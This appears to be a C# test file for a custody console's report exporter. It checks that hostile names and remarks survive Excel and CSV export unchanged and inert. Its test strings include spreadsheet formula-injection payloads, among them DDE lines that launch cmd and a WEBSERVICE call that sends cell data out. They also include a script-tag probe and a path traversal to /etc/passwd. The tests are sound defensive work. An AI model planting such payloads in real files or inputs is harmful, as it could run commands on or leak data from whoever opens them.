using System.IO.Compression;
using System.Text;
using CustodyConsole.Domain.Reports;
using CustodyConsole.Features.Reports;
using CustodyConsole.Tests.Demo;

namespace CustodyConsole.Tests.Reports;

/// <summary>Names and remarks that try to be something else: they come back as they were, and nothing of them runs.</summary>
public sealed class HostileTextTests
{
    private const int CharsMax = 32_767;

    private static readonly string[] Texts =
    [
        "=1+1", "=HYPERLINK(\"http://example.com\",\"点我\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", "=\t1", "\t=1+1", "＝1+1", "＠SUM(1)",
        "=A1", "=1/0", "=WEBSERVICE(\"http://example.com/\"&A1)", "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "+86 138 0000 0000",
        "001", "1E5", "12345678901234567890", "6222021234567890123", "11010519491231002X", "3-4", "2026/1/2", "1/2", "TRUE", "NULL", "#REF!", "0x1F",
        "_x0041_", "_x000D_", "_x005F_", "_X0041_", "_x00G1_", "a_x0041_b_x0042_", "\u0001\u0002\u0007\u001B[31m", "\u0000空", "\u000B\u000C", "\u007F\u0085",
        "😀🏦💴", "𠮷野家", "𡃁𠀀", "ﷺ", "\u202Egpj.exe", "שלום עולם", "مرحبا بالعالم", "e\u0301\u0327", "\u200B\u200D\uFEFF", "\uFFFD", "'单引号", "''", "'=1", "\"双\"引\"号\"",
        "甲,乙;丙\t丁", "第一行\n第二行", " 前后空格 ", "<script>alert(1)</script>", "</t></is></c><c><f>1+1</f></c>", "&amp;&lt;&#65;", "]]>", "%s%n{0}", "../../etc/passwd",
        "很长的平台名称" + new string('长', 300), new string('字', CharsMax),
    ];

    [Fact]
    public async Task They_come_back_unchanged_and_inert_from_a_workbook()
    {
        using var folder = new ReportFolder();
        await using var bank = await SeededBanks.OpenAsync("sqlite");
        var settings = new CustodySettings
        {
            BankName = "=1+1<&>_x0041_", BankNameEnglish = "", Database = "", Demo = false, Folder = "", PersonalDataKeyFile = "",
        };
        var maker = new ReportMaker("+RP1", "@SUM(1)", "=2+3") { IsBank = true };

        var written = await ReportFolder.Writer(bank, settings: settings).WriteAsync(
            new TextReport([.. Texts.Select(text => (text, 1L))]), new ReportScope(), maker, folder.File("texts.xlsx"), null, TestContext.Current.CancellationToken);

        Assert.True(written.Done, written.ToString());
        Assert.Empty(ReportFileTests.FaultsOf(folder.File("texts.xlsx")));
        await folder.WriteAsync(bank, new TextReport([(new string('字', CharsMax + 1), 0)]), new ReportScope(), "cut.xlsx");
        var read = await folder.ReadByOfficeAsync(["texts.xlsx", "cut.xlsx"]);
        var rows = read[("texts.xlsx", "文本")];
        Assert.Equal(Texts.Length + 2, rows.Count);
        for (var i = 0; i < Texts.Length; i++)
        {
            Assert.Equal(Texts[i], rows[i + 1][0]);
            Assert.Equal(Texts[i], rows[i + 1][1]);
        }

        // A text that no cell can hold is cut, and says so.
        var cut = read[("cut.xlsx", "文本")][1][0];
        Assert.Equal(CharsMax, cut.Length);
        Assert.EndsWith("字…[截断]", cut, StringComparison.Ordinal);

        var cover = read[("texts.xlsx", "封面")];
        Assert.Equal("=1+1<&>_x0041_", cover[0][0]);
        Assert.Contains(cover, row => row[0] == "导出编号" && row[1] == "+RP1");
        Assert.Contains(cover, row => row[0] == "出具人" && row[1] == "=2+3 (@SUM(1))");
        // The only formula is the total's own, and what looks like one is marked as text for whoever types into its cell.
        var sheets = ReadParts(folder.File("texts.xlsx"), "xl/worksheets/");
        Assert.Equal(1, sheets.Sum(xml => xml.Split("<f>").Length - 1));
        Assert.Contains("<f>SUM(C2:C", string.Concat(sheets), StringComparison.Ordinal);
        Assert.Contains("quotePrefix=\"1\"", ReadParts(folder.File("texts.xlsx"), "xl/styles.xml").Single(), StringComparison.Ordinal);
    }

    [Theory, InlineData(ReportFormat.CsvUtf8), InlineData(ReportFormat.CsvGbk)]
    public async Task They_come_back_unchanged_and_inert_from_csv(ReportFormat format)
    {
        using var folder = new ReportFolder();
        await using var bank = await SeededBanks.OpenAsync("sqlite");
        await folder.WriteAsync(bank, new TextReport([.. Texts.Select(text => (text, 1L))]), new ReportScope { Format = format }, "texts.zip");

        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var encoding = format == ReportFormat.CsvUtf8 ? Encoding.UTF8 : Encoding.GetEncoding("GBK", EncoderFallback.ExceptionFallback, DecoderFallback.ExceptionFallback);
        var bytes = ReadBytes(folder.File("texts.zip"), "texts.csv");
        Assert.Equal(format == ReportFormat.CsvUtf8, bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        var rows = ReportFolder.Csv(encoding.GetString(format == ReportFormat.CsvUtf8 ? bytes.AsSpan(3) : bytes));
        Assert.Equal(["平台", "备注", "金额（元）"], rows[0]);
        Assert.Equal(Texts.Length + 1, rows.Count);
        for (var i = 0; i < Texts.Length; i++)
        {
            var text = format == ReportFormat.CsvUtf8 ? rows[i + 1][0] : Unnamed(rows[i + 1][0]);
            if (Texts[i].Length > 0 && "=+-@\t\r＝＋－＠'".Contains(Texts[i][0])) Assert.Equal("'" + Texts[i], text);
            else Assert.Equal(Texts[i], text);
            Assert.Equal("0.01", rows[i + 1][2]);
        }

        var note = encoding.GetString(ReadBytes(folder.File("texts.zip"), "cover.txt"));
        Assert.Contains("0.63", note, StringComparison.Ordinal);
        if (format == ReportFormat.CsvGbk)
        {
            var lost = rows.Skip(1).Sum(row => (row[0].Split("{U+").Length - 1) + (row[1].Split("{U+").Length - 1));
            Assert.True(lost > 20);
            Assert.Contains($"GBK 字符集之外的字符共 {lost} 个", note, StringComparison.Ordinal);
        }
    }

    /// <summary>Characters that were named by their numbers, turned back.</summary>
    private static string Unnamed(string text) => System.Text.RegularExpressions.Regex.Replace(
        text, @"\{U\+([0-9A-F]{4,6})\}", match => char.ConvertFromUtf32(Convert.ToInt32(match.Groups[1].Value, 16)));

    private static List<string> ReadParts(string file, string prefix)
    {
        using var zip = ZipFile.OpenRead(file);
        return [.. zip.Entries.Where(entry => entry.FullName.StartsWith(prefix, StringComparison.Ordinal)).Select(entry =>
        {
            using var reader = new StreamReader(entry.Open());
            return reader.ReadToEnd();
        })];
    }

    private static byte[] ReadBytes(string file, string name)
    {
        using var zip = ZipFile.OpenRead(file);
        using var entry = zip.GetEntry(name)!.Open();
        using var copy = new MemoryStream();
        entry.CopyTo(copy);
        return copy.ToArray();
    }
}
